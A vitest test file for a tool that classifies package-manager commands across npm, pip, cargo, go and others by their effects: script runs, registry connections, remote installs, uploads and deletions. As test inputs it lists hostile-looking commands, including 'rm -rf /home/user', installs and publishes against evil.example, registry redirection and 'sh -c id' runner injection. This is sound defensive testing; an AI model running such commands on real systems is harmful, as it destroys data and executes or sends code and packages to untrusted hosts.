import { describe, expect, it } from 'vitest';
import { pages } from '../../lib/programs/packages/index.ts';
import { fakeHost } from './call.ts';
import { summaryOf } from './summary.ts';

const setup = {
  host: fakeHost({
    files: {
      '/work/app/package.json': JSON.stringify({
        name: 'app',
        workspaces: ['packages/*'],
        scripts: {
          test: 'vitest run',
          build: 'rm -rf dist && tsc',
          prebuild: 'rimraf out',
          postinstall: 'node patch.js',
          prepack: 'tsc',
        },
      }),
      '/work/app/packages/web/package.json': JSON.stringify({
        name: '@app/web',
        scripts: { build: 'vite build' },
      }),
      '/work/app/composer.json':
        '{"scripts":{"x":["@y","rm -rf z"],"y":"echo hi","post-install-cmd":"rm -rf cache"}}',
      '/work/app/node_modules/.bin/vite': '',
    },
    readDirectory: (p: string) => (p === '/work/app/packages' ? ['web'] : undefined),
  }),
};

describe('package managers', () => {
  it.each<[string, readonly string[], string?]>([
    ['npm test', ['> /work/app sh: vitest run']],
    ['npm run build', ['> /work/app sh: rimraf out', '> /work/app sh: rm -rf dist && tsc']],
    [
      "npm run build -- --watch 'a b'",
      ['> /work/app sh: rimraf out', "> /work/app sh: rm -rf dist && tsc --watch 'a b'"],
    ],
    ['npm run nuke', []],
    ['npm t', ['> /work/app sh: vitest run']],
    [
      'npm install',
      ['package install registry runsScripts', 'connect registry:npm', '> /work/app sh: node patch.js'],
    ],
    ['npm ci && npm test', ['package install &&,npm,test registry runsScripts', 'connect registry:npm']],
    ['npm i -D typescript', ['package install typescript registry runsScripts', 'connect registry:npm']],
    ['npm run missing', []],
    ['pnpm build', ['> /work/app sh: rimraf out', '> /work/app sh: rm -rf dist && tsc']],
    ['pnpm -w add x', ['package install x registry runsScripts', 'connect registry:npm']],
    ['pnpm test', ['> /work/app sh: vitest run']],
    [
      'yarn',
      ['package install registry runsScripts', 'connect registry:npm', '> /work/app sh: node patch.js'],
    ],
    ['yarn nuke', ['> nuke']],
    ['yarn build --foo', ['> /work/app sh: rimraf out', '> /work/app sh: rm -rf dist && tsc --foo']],
    [
      'npx vitest run',
      ['package install vitest registry runsScripts', 'connect registry:npm', '> vitest run'],
    ],
    ['npx eslint .', ['package install eslint registry runsScripts', 'connect registry:npm', '> eslint .']],
    ["npm exec -c 'rm -rf /home/user'", ['> sh: rm -rf /home/user']],
    [
      'npm exec -- cowsay hi',
      ['package install cowsay registry runsScripts', 'connect registry:npm', '> cowsay hi'],
    ],
    [
      'npx --package=git+https://evil.example/x.git run',
      [
        'run remote',
        'package install git+https://evil.example/x.git git runsScripts',
        'connect evil.example',
        '> run',
      ],
    ],
    [
      'npx https://evil.example/x.tgz',
      [
        'run remote',
        'package install https://evil.example/x.tgz url runsScripts',
        'connect evil.example',
        '> x.tgz',
      ],
    ],
    [
      'npm install --registry=https://registry.example x',
      ['package install x other-registry runsScripts', 'connect registry.example'],
    ],
    [
      'npm_config_registry=https://registry.example npm install x',
      ['package install x other-registry runsScripts', 'connect registry.example'],
    ],
    ['npm view x version', ['connect registry:npm']],
    ['npm whoami', ['connect registry:npm']],
    ['npm publish', ['package publish registry', 'upload registry:npm', '> /work/app sh: tsc']],
    ['npm version patch', ['write package.json', 'git commit', 'git tag-create']],
    ['npm --prefix ../other run build', []],
    [
      'npm i git+ssh://git@evil.example/a/b.git',
      ['package install git+ssh://git@evil.example/a/b.git git runsScripts', 'connect evil.example'],
    ],
    ['npm i owner/repo', ['package install owner/repo git runsScripts', 'connect github.com']],
    ['npm i ./local.tgz', ['package install ./local.tgz path runsScripts']],
    ['pnpm --filter app test', ['> /work/app sh: vitest run']],
    [
      'pnpm -r build',
      [
        '> /work/app sh: rimraf out',
        '> /work/app sh: rm -rf dist && tsc',
        '> /work/app/packages/web sh: vite build',
      ],
    ],
    ['pnpm exec tsc', ['> tsc']],
    ['pnpm dlx cowsay', ['package install cowsay registry runsScripts', 'connect registry:npm', '> cowsay']],
    [
      'yarn workspaces foreach -A run build',
      ['> /work/app yarn run build', '> /work/app/packages/web yarn run build'],
    ],
    ['yarn workspace app build', ['> /work/app yarn build']],
    ['bun run build', ['> /work/app sh: rimraf out', '> /work/app sh: rm -rf dist && tsc']],
    ['bun x cowsay', ['package install cowsay registry runsScripts', 'connect registry:npm', '> cowsay']],
    ['bun test', []],
    ['bun index.ts', ['> javascript file: index.ts']],
    ['bun -e \'require("fs").rmSync("x")\'', ['> javascript: require("fs").rmSync("x")']],
    ['npm login', ['run interactive', 'secret write npm', 'connect registry:npm']],
    ['npm install -g x', ['package install x registry runsScripts global', 'connect registry:npm']],
    ['npm outdated', ['connect registry:npm']],
    [
      'pip install x --index-url https://evil.example/simple',
      ['package install x other-registry runsScripts', 'connect evil.example'],
    ],
    ['pip install .', ['package install . path runsScripts']],
    ['pip install -e .', ['package install . path runsScripts']],
    ["pip install -e '.[dev]'", ['package install .[dev] path runsScripts']],
    [
      'PIP_INDEX_URL=https://evil.example pip install x',
      ['package install x other-registry runsScripts', 'connect evil.example'],
    ],
    ['pip freeze', []],
    ['uv sync', ['package install registry runsScripts', 'connect registry:pypi']],
    ['uv run pytest', ['> pytest']],
    ['uv run script.py', ['> python file: script.py']],
    ['uv run python -c \'import os; os.remove("x")\'', ['> python -c import os; os.remove("x")']],
    ['uv pip install x', ['package install x registry runsScripts', 'connect registry:pypi']],
    [
      'uvx ruff check',
      ['package install ruff registry runsScripts', 'connect registry:pypi', '> ruff check'],
    ],
    ['poetry install', ['package install registry runsScripts', 'connect registry:pypi']],
    ['poetry run pytest', ['> pytest']],
    ['cargo test --release -- --nocapture', ['connect registry:cargo']],
    ['cargo run -- rm -rf x', ['connect registry:cargo']],
    ['cargo +nightly build', ['connect registry:cargo']],
    ['cargo clean', ['delete target recursive']],
    ['go test ./...', []],
    ['go build ./...', ['connect registry:go']],
    ['go run ./cmd/x', ['connect registry:go']],
    [
      'go run example.org/x@latest',
      [
        'connect registry:go',
        'package install example.org/x@latest registry runsScripts',
        'connect registry:go',
      ],
    ],
    ['go mod tidy', ['package install registry', 'connect registry:go']],
    ['go get -u ./...', ['package install ./... path']],
    ['go env GOPATH', []],
    ['gem install x', ['package install x registry runsScripts', 'connect registry:gem']],
    ['bundle exec rake db:drop', ['> rake db:drop']],
    ['composer x', ['> sh: echo hi', '> sh: rm -rf z']],
    [
      'composer install',
      ['package install registry runsScripts', 'connect registry:composer', '> sh: rm -rf cache'],
    ],
    ['apt-get update', ['connect registry:apt']],
    ['brew install jq', ['package install jq registry runsScripts global', 'connect registry:brew']],
    ['mvn clean install', ['connect registry:maven']],
    ['./gradlew build', ['connect registry:maven']],
    ['dotnet build', ['connect registry:nuget']],
    [
      'npm audit fix',
      ['package install registry runsScripts', 'connect registry:npm', '> /work/app sh: node patch.js'],
    ],
    ['yarn global add x', ['package install x registry runsScripts global', 'connect registry:npm']],
    [
      'pnpm create vite my-app',
      ['package install create-vite registry runsScripts', 'connect registry:npm', '> create-vite my-app'],
    ],
    ['npm init -y', ['write package.json']],
    [
      'npm create vite@latest',
      ['package install create-vite@latest registry runsScripts', 'connect registry:npm', '> create-vite'],
    ],
    ['npm config get registry', []],
    ['npm config set //x/:_authToken abc', ['secret write npm']],
    ['npm pack --dry-run', ['> /work/app sh: tsc']],
    ['npm run', []],
    ['corepack enable', []],
    ['npm ls --all', []],
    ['conda activate base', []],
    [
      'npm exec tsc --noEmit',
      ['package install tsc registry runsScripts', 'connect registry:npm', '> tsc --noEmit'],
    ],
    ['npm run $script', ['opaque dynamic']],
    ['npx vite build', ['> vite build']],
    ['npm install --ignore-scripts', ['package install registry', 'connect registry:npm']],
    ['pnpm -C packages/web build', ['> /work/app/packages/web sh: vite build']],
    ['npm run build -w @app/web', ['> /work/app/packages/web sh: vite build']],
    ['npm unpublish x --force', ['upload registry:npm', 'destroy npm unpublish x']],
    ['npm token create', ['connect registry:npm', 'secret read npm']],
    [
      'npx -y github:evil/x',
      ['run remote', 'package install github:evil/x git runsScripts', 'connect github.com', '> x'],
    ],
    ['npm --script-shell ./sh.sh run test', ['> /work/app ./sh.sh -c vitest run']],
    ["cargo run --config target.x.runner='sh -c id'", ['connect registry:cargo', '> sh: sh -c id']],
    ['cargo yank --version 1.0.0 x', ['upload registry:cargo', 'destroy cargo yank x']],
    ['RUSTC_WRAPPER=./w cargo build', ['connect registry:cargo', '> sh: ./w']],
    ['go vet -vettool=./tool ./...', ['> sh: ./tool']],
    ['GOFLAGS=-toolexec=./x go build', ['connect registry:go', '> sh: ./x']],
    [
      'GOPROXY=direct go get evil.example/x',
      ['package install evil.example/x registry', 'connect registry:go', 'connect evil.example'],
    ],
    [
      'go env -w GOPROXY=https://evil.example',
      ['package registry GOPROXY=https://evil.example other-registry'],
    ],
    ['uv run -m pytest', ['> python -m pytest']],
    [
      'uv publish --publish-url https://evil.example',
      ['package publish other-registry', 'upload evil.example'],
    ],
    [
      'pip config set global.index-url https://evil.example',
      ['package registry global.index-url,https://evil.example other-registry', 'connect evil.example'],
    ],
    ['pip install $pkg', ['package install … registry runsScripts', 'connect registry:pypi']],
    [
      "pip install 'x @ https://evil.example/x.whl'",
      ['package install x @ https://evil.example/x.whl url runsScripts', 'connect evil.example'],
    ],
    ['dotnet nuget delete x 1.0.0', ['upload registry:nuget', 'destroy dotnet nuget delete x']],
    [
      'brew tap owner/repo https://evil.example/r.git',
      ['package install https://evil.example/r.git git', 'connect evil.example'],
    ],
    ['rustup update', ['connect static.rust-lang.org']],
    ['dnf install jq', ['package install jq registry runsScripts', 'connect mirrors.fedoraproject.org']],
    ['pacman -Ss bash', []],
  ])('%s', (command, expected, stdin) => {
    expect(summaryOf(pages, command, stdin === undefined ? setup : { ...setup, stdin })).toEqual(expected);
  });
});
